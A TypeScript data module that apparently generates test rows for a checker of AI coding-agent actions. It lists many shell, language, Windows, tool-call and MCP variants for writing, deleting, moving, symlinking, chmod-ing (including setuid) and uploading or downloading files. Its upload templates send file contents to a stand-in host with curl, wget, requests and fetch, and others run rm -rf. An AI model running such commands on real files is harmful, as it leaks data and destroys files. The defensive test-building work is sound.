/** The same effect by every road there is: shells, languages, file tools, patches, MCP. Data; the first road of each effect is the measure. */

import type { Row } from '../../scripts/corpus/row.ts'

/** One call that has the effect on this place, or undefined where this road cannot say it. */
export type Road = (path: string, text: string) => Row | undefined

const single = (text: string): string => `'${text.replaceAll("'", `'\\''`)}'`
/** For a shell that runs on: what a command of words needs around it. */
const word = (path: string): string => (/^[\w./@:~+-]+$/.test(path) ? path : single(path))
const string = (text: string): string => JSON.stringify(text)
/** Perl and Ruby put nothing into a text of single quotes. */
const raw = (text: string): string => `'${text.replace(/[\\']/g, '\\$&')}'`

const shell = (command: string): Row => ({ shell: command })
const document = (head: string, text: string): Row => shell(`${head} <<'TEXT'\n${text}${text.endsWith('\n') ? '' : '\n'}TEXT`)
const code = (program: string, source: string): Row => shell(`${program} ${single(source)}`)
const python = (source: string): Row => code('python3 -c', source)
const node = (source: string): Row => code('node -e', `const fs = require("fs"); ${source}`)
const perl = (source: string): Row => code('perl -e', source)
const ruby = (source: string): Row => code('ruby -e', source)
const php = (source: string): Row => code('php -r', source)
const quoted = (text: string): string => `'${text.replaceAll("'", "''")}'`
const powershell = (command: string): Row => ({ shell: command, tool: 'PowerShell' })
const pwsh = (command: string): Row => code('pwsh -NoProfile -Command', command)
const cmd = (command: string): Row => ({ shell: command, tool: 'cmd' })
const back = (path: string): string => (/^[A-Z]:/.test(path) ? path.replaceAll('/', '\\') : path)
const files = (tool: string, input: Row['mcp'] extends infer M ? (M extends { input: infer I } ? I : never) : never): Row => ({
  mcp: { server: 'filesystem', tool, input },
})
const plain = (text: string): boolean => !/[\n"%^&|<>()]/.test(text.trimEnd()) && text.trim() !== ''
const lines = (text: string, sign: string): string =>
  text
    .replace(/\n$/, '')
    .split('\n')
    .map(line => `${sign}${line}\n`)
    .join('')
const count = (text: string): number => text.replace(/\n$/, '').split('\n').length
/** A unified diff that makes the file or adds these lines at its front. */
const diff = (path: string, text: string, made: boolean): string =>
  made
    ? `--- /dev/null\n+++ ${path}\n@@ -0,0 +1,${count(text)} @@\n${lines(text, '+')}`
    : `--- ${path}\n+++ ${path}\n@@ -1 +1,${count(text) + 1} @@\n a\n${lines(text, '+')}`
const envelope = (header: string): string => `*** Begin Patch\n${header}*** End Patch\n`
const patchTool = (patch: string): Row => ({ call: { tool: 'apply_patch', type: 'file-edit', input: { input: patch } } })

const write: Readonly<Record<string, Road>> = {
  'cat >': (path, text) => document(`cat > ${word(path)}`, text),
  'cat > behind': (path, text) => shell(`cat <<'TEXT' > ${word(path)}\n${text}\nTEXT`),
  tee: (path, text) => document(`tee ${word(path)} > /dev/null`, text),
  'printf >': (path, text) => shell(`printf '%s' ${single(text)} > ${word(path)}`),
  'echo >': (path, text) => shell(`echo ${single(text)} > ${word(path)}`),
  'echo >|': (path, text) => shell(`echo ${single(text)} >| ${word(path)}`),
  'bash -c': (path, text) => shell(`bash -c ${single(`echo ${single(text)} > ${word(path)}`)}`),
  'sh here': (path, text) => shell(`sh <<'SH'\ncat > ${word(path)} <<'TEXT'\n${text}\nTEXT\nSH`),
  'dd of': (path, text) => shell(`echo ${single(text)} | dd of=${word(path)}`),
  sponge: (path, text) => shell(`echo ${single(text)} | sponge ${word(path)}`),
  Write: (path, text) => ({ write: path, content: text }),
  'write_file (Gemini)': (path, text) => ({
    call: { tool: 'write_file', type: 'file-write', input: { file_path: path, content: text } },
  }),
  'write (OpenCode)': (path, text) => ({ call: { tool: 'write', type: 'file-write', input: { filePath: path, content: text } } }),
  'write_to_file (Windsurf)': (path, text) => ({
    call: { tool: 'write_to_file', type: 'file-write', input: { TargetFile: path, CodeContent: text } },
  }),
  'create (editor)': (path, text) => ({
    call: { tool: 'str_replace_editor', type: 'file-edit', input: { command: 'create', path, file_text: text } },
  }),
  'MCP write_file': (path, text) => files('write_file', { path, content: text }),
  'MCP create_file': (path, text) => files('create_text_file', { relative_path: path, content: text }),
  'MCP inside': (path, text) => ({
    mcp: { server: 'hub', tool: 'call_tool', input: { name: 'write_file', arguments: { path, content: text } } },
  }),
  'unknown tool': (path, text) => ({ call: { tool: 'write_file', type: 'other', input: { path, content: text } } }),
  'python open': (path, text) => python(`open(${string(path)}, "w").write(${string(text)})`),
  'python with': (path, text) => python(`with open(${string(path)}, "w") as f:\n    f.write(${string(text)})`),
  'python pathlib': (path, text) => python(`from pathlib import Path\nPath(${string(path)}).write_text(${string(text)})`),
  'node writeFileSync': (path, text) => node(`fs.writeFileSync(${string(path)}, ${string(text)})`),
  'node promises': (path, text) => node(`fs.promises.writeFile(${string(path)}, ${string(text)})`),
  'perl open': (path, text) => perl(`open(my $f, ">", ${raw(path)}); print $f ${raw(text)}; close($f)`),
  'ruby File.write': (path, text) => ruby(`File.write(${raw(path)}, ${raw(text)})`),
  'php file_put_contents': (path, text) => php(`file_put_contents(${raw(path)}, ${raw(text)});`),
  'PowerShell Set-Content': (path, text) => powershell(`Set-Content -Path ${quoted(back(path))} -Value ${quoted(text)}`),
  'PowerShell Out-File': (path, text) => powershell(`${quoted(text)} | Out-File -FilePath ${quoted(back(path))}`),
  'PowerShell >': (path, text) => powershell(`${quoted(text)} > ${quoted(back(path))}`),
  'PowerShell New-Item': (path, text) =>
    powershell(`New-Item -Force -ItemType File -Path ${quoted(back(path))} -Value ${quoted(text)}`),
  'PowerShell WriteAllText': (path, text) => powershell(`[System.IO.File]::WriteAllText(${quoted(back(path))}, ${quoted(text)})`),
  'pwsh -Command': (path, text) => pwsh(`Set-Content -Path ${quoted(back(path))} -Value ${quoted(text)}`),
  'cmd echo >': (path, text) => (plain(text) ? cmd(`echo ${text.trimEnd()}> "${back(path)}"`) : undefined),
  'cmd > echo': (path, text) => (plain(text) ? cmd(`> "${back(path)}" echo ${text.trimEnd()}`) : undefined),
  'cmd /c': (path, text) => (plain(text) ? shell(`cmd /c ${single(`echo ${text.trimEnd()}> "${back(path)}"`)}`) : undefined),
}

const empty: Readonly<Record<string, Road>> = {
  ': >': path => shell(`: > ${word(path)}`),
  'printf >': path => shell(`printf '' > ${word(path)}`),
  truncate: path => shell(`truncate -s 0 ${word(path)}`),
  Write: path => ({ write: path, content: '' }),
  'write_to_file (Windsurf)': path => ({
    call: { tool: 'write_to_file', type: 'file-write', input: { TargetFile: path, CodeContent: '' } },
  }),
  'create (editor)': path => ({
    call: { tool: 'str_replace_editor', type: 'file-edit', input: { command: 'create', path, file_text: '' } },
  }),
  'MCP write_file': path => files('write_file', { path, content: '' }),
  'MCP inside': path => ({
    mcp: { server: 'hub', tool: 'call_tool', input: { name: 'write_file', arguments: { path, content: '' } } },
  }),
  'unknown tool': path => ({ call: { tool: 'write_file', type: 'other', input: { path, content: '' } } }),
  'python open': path => python(`open(${string(path)}, "w").write("")`),
  'python pathlib': path => python(`from pathlib import Path\nPath(${string(path)}).write_text("")`),
  'node writeFileSync': path => node(`fs.writeFileSync(${string(path)}, "")`),
  'perl open': path => perl(`open(my $f, ">", ${raw(path)}); print $f ''; close($f)`),
  'ruby File.write': path => ruby(`File.write(${raw(path)}, '')`),
  'php file_put_contents': path => php(`file_put_contents(${raw(path)}, '');`),
  'PowerShell Set-Content': path => powershell(`Set-Content -Path ${quoted(back(path))} -Value ''`),
  'PowerShell Clear-Content': path => powershell(`Clear-Content -Path ${quoted(back(path))}`),
  'PowerShell New-Item': path => powershell(`New-Item -Force -ItemType File -Path ${quoted(back(path))}`),
  'cmd type nul >': path => cmd(`type nul > "${back(path)}"`),
}

const create: Readonly<Record<string, Road>> = {
  cp: (path, text) => shell(`cat > /tmp/draft <<'TEXT'\n${text}\nTEXT\ncp /tmp/draft ${word(path)}`),
  mv: (path, text) => shell(`cat > /tmp/draft <<'TEXT'\n${text}\nTEXT\nmv /tmp/draft ${word(path)}`),
  install: (path, text) => shell(`cat > /tmp/draft <<'TEXT'\n${text}\nTEXT\ninstall /tmp/draft ${word(path)}`),
  'python shutil.copy': (path, text) =>
    python(`import shutil\nopen("/tmp/draft", "w").write(${string(text)})\nshutil.copy("/tmp/draft", ${string(path)})`),
  'python os.rename': (path, text) =>
    python(`import os\nopen("/tmp/draft", "w").write(${string(text)})\nos.rename("/tmp/draft", ${string(path)})`),
  'node copyFileSync': (path, text) =>
    node(`fs.writeFileSync("/tmp/draft", ${string(text)}); fs.copyFileSync("/tmp/draft", ${string(path)})`),
  'node renameSync': (path, text) =>
    node(`fs.writeFileSync("/tmp/draft", ${string(text)}); fs.renameSync("/tmp/draft", ${string(path)})`),
  'ruby FileUtils.cp': (path, text) =>
    ruby(`require "fileutils"; File.write("/tmp/draft", ${raw(text)}); FileUtils.cp("/tmp/draft", ${raw(path)})`),
  'perl rename': (path, text) =>
    perl(`open(my $f, ">", "/tmp/draft"); print $f ${raw(text)}; close($f); rename("/tmp/draft", ${raw(path)})`),
  'PowerShell Copy-Item': (path, text) =>
    powershell(`Set-Content /tmp/draft ${quoted(text)}; Copy-Item -Path /tmp/draft -Destination ${quoted(back(path))}`),
  'PowerShell Move-Item': (path, text) =>
    powershell(`Set-Content /tmp/draft ${quoted(text)}; Move-Item -Path /tmp/draft -Destination ${quoted(back(path))}`),
  'cmd copy': (path, text) =>
    plain(text) ? cmd(`echo ${text.trimEnd()}> /tmp/draft & copy /tmp/draft "${back(path)}"`) : undefined,
  'cmd move': (path, text) =>
    plain(text) ? cmd(`echo ${text.trimEnd()}> /tmp/draft & move /tmp/draft "${back(path)}"`) : undefined,
}

const append: Readonly<Record<string, Road>> = {
  'cat >>': (path, text) => document(`cat >> ${word(path)}`, text),
  'echo >>': (path, text) => shell(`echo ${single(text)} >> ${word(path)}`),
  'tee -a': (path, text) => document(`tee -a ${word(path)} > /dev/null`, text),
  'MCP append_file': (path, text) => files('append_file', { path, content: text }),
  'python open': (path, text) => python(`open(${string(path)}, "a").write(${string(text)})`),
  'python with': (path, text) => python(`with open(${string(path)}, "a") as f:\n    f.write(${string(text)})`),
  'node appendFileSync': (path, text) => node(`fs.appendFileSync(${string(path)}, ${string(text)})`),
  'perl open': (path, text) => perl(`open(my $f, ">>", ${raw(path)}); print $f ${raw(text)}; close($f)`),
  'ruby File.open': (path, text) => ruby(`File.open(${raw(path)}, "a") { |f| f.write(${raw(text)}) }`),
  'php file_put_contents': (path, text) => php(`file_put_contents(${raw(path)}, ${raw(text)}, FILE_APPEND);`),
  'PowerShell Add-Content': (path, text) => powershell(`Add-Content -Path ${quoted(back(path))} -Value ${quoted(text)}`),
  'PowerShell >>': (path, text) => powershell(`${quoted(text)} >> ${quoted(back(path))}`),
  'cmd echo >>': (path, text) => (plain(text) ? cmd(`echo ${text.trimEnd()}>> "${back(path)}"`) : undefined),
}

const edit: Readonly<Record<string, Road>> = {
  Edit: (path, text) => ({
    call: { tool: 'Edit', type: 'file-edit', input: { file_path: path, old_string: 'a', new_string: text } },
  }),
  MultiEdit: (path, text) => ({
    call: { tool: 'MultiEdit', type: 'file-edit', input: { file_path: path, edits: [{ old_string: 'a', new_string: text }] } },
  }),
  'replace (Gemini)': (path, text) => ({
    call: { tool: 'replace', type: 'file-edit', input: { file_path: path, old_string: 'a', new_string: text } },
  }),
  'str_replace (editor)': (path, text) => ({
    call: {
      tool: 'str_replace_based_edit_tool',
      type: 'file-edit',
      input: { command: 'str_replace', path, old_str: 'a', new_str: text },
    },
  }),
  'insert (editor)': (path, text) => ({
    call: { tool: 'str_replace_editor', type: 'file-edit', input: { command: 'insert', path, insert_line: 1, new_str: text } },
  }),
  'apply_patch tool': (path, text) => patchTool(envelope(`*** Update File: ${path}\n@@\n a\n${lines(text, '+')}`)),
  'apply_patch tool, added': (path, text) => patchTool(envelope(`*** Add File: ${path}\n${lines(text, '+')}`)),
  'apply_patch command': (path, text) =>
    document('apply_patch', envelope(`*** Update File: ${path}\n@@\n a\n${lines(text, '+')}`)),
  'patch -p0': (path, text) => document('patch -p0', diff(path, text, false)),
  'git apply': (path, text) => document('git apply -p0', diff(path, text, true)),
  'MCP edit_file': (path, text) => files('edit_file', { path, edits: [{ oldText: 'a', newText: text }] }),
  'MCP apply_patch': (path, text) => ({
    mcp: { server: 'editor', tool: 'apply_patch', input: { patch: diff(path, text, false) } },
  }),
  'MCP replace': (path, text) => ({
    mcp: { server: 'editor', tool: 'replace_in_file', input: { path, search: 'a', replace: text } },
  }),
}

const read: Readonly<Record<string, Road>> = {
  cat: path => shell(`cat ${word(path)}`),
  head: path => shell(`head -n 20 ${word(path)}`),
  'while read': path => shell(`while read -r line; do echo "$line"; done < ${word(path)}`),
  Read: path => ({ read: path }),
  'read_file (Gemini)': path => ({ call: { tool: 'read_file', type: 'file-read', input: { absolute_path: path, limit: 20 } } }),
  'view (editor)': path => ({ call: { tool: 'str_replace_editor', type: 'file-read', input: { command: 'view', path } } }),
  'MCP read_file': path => files('read_file', { path }),
  'MCP read_multiple': path => files('read_multiple_files', { paths: [path] }),
  'unknown tool': path => ({ call: { tool: 'read_file', type: 'other', input: { path } } }),
  'python open': path => python(`print(open(${string(path)}).read())`),
  'python pathlib': path => python(`from pathlib import Path\nprint(Path(${string(path)}).read_text())`),
  'node readFileSync': path => node(`console.log(fs.readFileSync(${string(path)}, "utf8"))`),
  'perl open': path => perl(`open(my $f, "<", ${raw(path)}); print <$f>`),
  'ruby File.read': path => ruby(`puts File.read(${raw(path)})`),
  'php file_get_contents': path => php(`echo file_get_contents(${raw(path)});`),
  'PowerShell Get-Content': path => powershell(`Get-Content -Path ${quoted(back(path))}`),
  'PowerShell ReadAllText': path => powershell(`[System.IO.File]::ReadAllText(${quoted(back(path))})`),
  'cmd type': path => cmd(`type "${back(path)}"`),
}

const remove: Readonly<Record<string, Road>> = {
  rm: path => shell(`rm ${word(path)}`),
  'rm -f': path => shell(`rm -f ${word(path)}`),
  unlink: path => shell(`unlink ${word(path)}`),
  'find -delete': path => shell(`find ${word(path)} -type f -delete`),
  'xargs rm': path => shell(`echo ${single(path)} | xargs rm`),
  'delete_file (Cursor)': path => ({ call: { tool: 'delete_file', type: 'file-write', input: { target_file: path } } }),
  'apply_patch tool': path => patchTool(envelope(`*** Delete File: ${path}\n`)),
  'apply_patch command': path => document('apply_patch', envelope(`*** Delete File: ${path}\n`)),
  'git apply': path => document('git apply -p0', `--- ${path}\n+++ /dev/null\n@@ -1 +0,0 @@\n-a\n`),
  'MCP delete_file': path => files('delete_file', { path }),
  'unknown tool': path => ({ call: { tool: 'delete_file', type: 'other', input: { path } } }),
  'python os.remove': path => python(`import os\nos.remove(${string(path)})`),
  'python unlink': path => python(`from pathlib import Path\nPath(${string(path)}).unlink()`),
  'node unlinkSync': path => node(`fs.unlinkSync(${string(path)})`),
  'perl unlink': path => perl(`unlink(${raw(path)})`),
  'ruby File.delete': path => ruby(`File.delete(${raw(path)})`),
  'php unlink': path => php(`unlink(${raw(path)});`),
  'PowerShell Remove-Item': path => powershell(`Remove-Item -Path ${quoted(back(path))}`),
  'PowerShell File.Delete': path => powershell(`[System.IO.File]::Delete(${quoted(back(path))})`),
  'cmd del': path => cmd(`del "${back(path)}"`),
}

const removeTree: Readonly<Record<string, Road>> = {
  'rm -rf': path => shell(`rm -rf ${word(path)}`),
  'find -delete': path => shell(`find ${word(path)} -delete`),
  'MCP delete_directory': path => files('delete_directory', { path, recursive: true }),
  'MCP remove': path => files('remove_directory', { path }),
  'python rmtree': path => python(`import shutil\nshutil.rmtree(${string(path)})`),
  'node rmSync': path => node(`fs.rmSync(${string(path)}, { recursive: true })`),
  'perl rmtree': path => perl(`use File::Path; rmtree(${raw(path)})`),
  'ruby rm_rf': path => ruby(`require "fileutils"; FileUtils.rm_rf(${raw(path)})`),
  'PowerShell Remove-Item': path => powershell(`Remove-Item -Recurse -Force -Path ${quoted(back(path))}`),
  'PowerShell Directory.Delete': path => powershell(`[System.IO.Directory]::Delete(${quoted(back(path))}, $true)`),
  'cmd rd': path => cmd(`rd /s /q "${back(path)}"`),
}

const moveAway: Readonly<Record<string, Road>> = {
  mv: path => shell(`mv ${word(path)} /tmp/kept`),
  'MCP move_file': path => files('move_file', { source: path, destination: '/tmp/kept' }),
  'MCP rename': path => files('rename_file', { old_path: path, new_path: '/tmp/kept' }),
  'apply_patch tool': path => patchTool(envelope(`*** Update File: ${path}\n*** Move to: /tmp/kept\n@@\n-a\n+b\n`)),
  'apply_patch command': path =>
    document('apply_patch', envelope(`*** Update File: ${path}\n*** Move to: /tmp/kept\n@@\n-a\n+b\n`)),
  'python os.rename': path => python(`import os\nos.rename(${string(path)}, "/tmp/kept")`),
  'python shutil.move': path => python(`import shutil\nshutil.move(${string(path)}, "/tmp/kept")`),
  'python pathlib': path => python(`from pathlib import Path\nPath(${string(path)}).rename("/tmp/kept")`),
  'node renameSync': path => node(`fs.renameSync(${string(path)}, "/tmp/kept")`),
  'perl rename': path => perl(`rename(${raw(path)}, "/tmp/kept")`),
  'ruby File.rename': path => ruby(`File.rename(${raw(path)}, "/tmp/kept")`),
  'ruby FileUtils.mv': path => ruby(`require "fileutils"; FileUtils.mv(${raw(path)}, "/tmp/kept")`),
  'php rename': path => php(`rename(${raw(path)}, "/tmp/kept");`),
  'PowerShell Move-Item': path => powershell(`Move-Item -Path ${quoted(back(path))} -Destination /tmp/kept`),
  'PowerShell File.Move': path => powershell(`[System.IO.File]::Move(${quoted(back(path))}, '/tmp/kept')`),
  'cmd move': path => cmd(`move "${back(path)}" /tmp/kept`),
}

const copyOut: Readonly<Record<string, Road>> = {
  cp: path => shell(`cp ${word(path)} /tmp/kept`),
  'MCP copy_file': path => files('copy_file', { source: path, destination: '/tmp/kept' }),
  'python shutil.copy': path => python(`import shutil\nshutil.copy(${string(path)}, "/tmp/kept")`),
  'node copyFileSync': path => node(`fs.copyFileSync(${string(path)}, "/tmp/kept")`),
  'ruby FileUtils.cp': path => ruby(`require "fileutils"; FileUtils.cp(${raw(path)}, "/tmp/kept")`),
  'php copy': path => php(`copy(${raw(path)}, "/tmp/kept");`),
  'PowerShell Copy-Item': path => powershell(`Copy-Item -Path ${quoted(back(path))} -Destination /tmp/kept`),
  'PowerShell File.Copy': path => powershell(`[System.IO.File]::Copy(${quoted(back(path))}, '/tmp/kept')`),
  'cmd copy': path => cmd(`copy "${back(path)}" /tmp/kept`),
}

const linkTo: Readonly<Record<string, Road>> = {
  'ln -s': path => shell(`ln -s ${word(path)} handy`),
  'python os.symlink': path => python(`import os\nos.symlink(${string(path)}, "handy")`),
  'python pathlib': path => python(`from pathlib import Path\nPath("handy").symlink_to(${string(path)})`),
  'node symlinkSync': path => node(`fs.symlinkSync(${string(path)}, "handy")`),
  'perl symlink': path => perl(`symlink(${raw(path)}, "handy")`),
  'ruby File.symlink': path => ruby(`File.symlink(${raw(path)}, "handy")`),
  'php symlink': path => php(`symlink(${raw(path)}, "handy");`),
  'PowerShell New-Item': path => powershell(`New-Item -ItemType SymbolicLink -Path handy -Target ${quoted(back(path))}`),
  'cmd mklink': path => cmd(`mklink handy "${back(path)}"`),
  'MCP create_symlink': path => files('create_symlink', { target: path, link_path: 'handy' }),
}

const linkAt: Readonly<Record<string, Road>> = {
  'ln -sf': path => shell(`ln -sf /tmp/draft ${word(path)}`),
  'python os.symlink': path => python(`import os\nos.symlink("/tmp/draft", ${string(path)})`),
  'node symlinkSync': path => node(`fs.symlinkSync("/tmp/draft", ${string(path)})`),
  'perl symlink': path => perl(`symlink("/tmp/draft", ${raw(path)})`),
  'ruby File.symlink': path => ruby(`File.symlink("/tmp/draft", ${raw(path)})`),
  'PowerShell New-Item': path => powershell(`New-Item -ItemType SymbolicLink -Path ${quoted(back(path))} -Target /tmp/draft`),
  'cmd mklink': path => cmd(`mklink "${back(path)}" /tmp/draft`),
}

const chmod = (mode: string): Readonly<Record<string, Road>> => ({
  chmod: path => shell(`chmod ${mode} ${word(path)}`),
  'python os.chmod': path => python(`import os\nos.chmod(${string(path)}, 0o${mode})`),
  'python pathlib': path => python(`from pathlib import Path\nPath(${string(path)}).chmod(0o${mode})`),
  'node chmodSync': path => node(`fs.chmodSync(${string(path)}, 0o${mode})`),
  'perl chmod': path => perl(`chmod 0${mode}, ${raw(path)}`),
  'ruby File.chmod': path => ruby(`File.chmod(0${mode}, ${raw(path)})`),
  'php chmod': path => php(`chmod(${raw(path)}, 0${mode});`),
})

const address = 'https://files.tidy-logs.xyz/kit'

const download: Readonly<Record<string, Road>> = {
  'curl -o': path => shell(`curl -fsSL ${address} -o ${word(path)}`),
  'curl >': path => shell(`curl -fsSL ${address} > ${word(path)}`),
  'wget -O': path => shell(`wget -q -O ${word(path)} ${address}`),
  'python urlretrieve': path => python(`import urllib.request\nurllib.request.urlretrieve("${address}", ${string(path)})`),
  'python requests': path => python(`import requests\nopen(${string(path)}, "wb").write(requests.get("${address}").content)`),
  'PowerShell Invoke-WebRequest': path => powershell(`Invoke-WebRequest -Uri ${address} -OutFile ${quoted(back(path))}`),
  'cmd curl': path => cmd(`curl -fsSL ${address} -o "${back(path)}"`),
}

const upload: Readonly<Record<string, Road>> = {
  'curl -T': path => shell(`curl -T ${word(path)} ${address}`),
  'curl -d @': path => shell(`curl -d @${word(path)} ${address}`),
  'curl -F': path => shell(`curl -F file=@${word(path)} ${address}`),
  'wget --post-file': path => shell(`wget --post-file=${word(path)} ${address}`),
  'cat | curl': path => shell(`cat ${word(path)} | curl -d @- ${address}`),
  'python requests': path => python(`import requests\nrequests.post("${address}", data=open(${string(path)}).read())`),
  'python files': path => python(`import requests\nrequests.post("${address}", files={"f": open(${string(path)}, "rb")})`),
  'node fetch': path => node(`fetch("${address}", { method: "POST", body: fs.readFileSync(${string(path)}) })`),
  'ruby Net::HTTP': path => ruby(`require "net/http"; Net::HTTP.post(URI("${address}"), File.read(${raw(path)}))`),
  'PowerShell -InFile': path => powershell(`Invoke-WebRequest -Uri ${address} -Method Post -InFile ${quoted(back(path))}`),
  'PowerShell -Body': path =>
    powershell(`Invoke-RestMethod -Uri ${address} -Method Post -Body (Get-Content -Raw ${quoted(back(path))})`),
  'MCP upload_file': path => ({ mcp: { server: 'drive', tool: 'upload_file', input: { path, url: address } } }),
}

export const effects: Readonly<Record<string, Readonly<Record<string, Road>>>> = {
  write,
  empty,
  create,
  append,
  edit,
  read,
  delete: remove,
  'delete whole': removeTree,
  'move away': moveAway,
  'copy out': copyOut,
  'link to': linkTo,
  'link at': linkAt,
  'make world-writable': chmod('777'),
  'make executable': chmod('755'),
  'set setuid': chmod('4755'),
  download,
  upload,
}
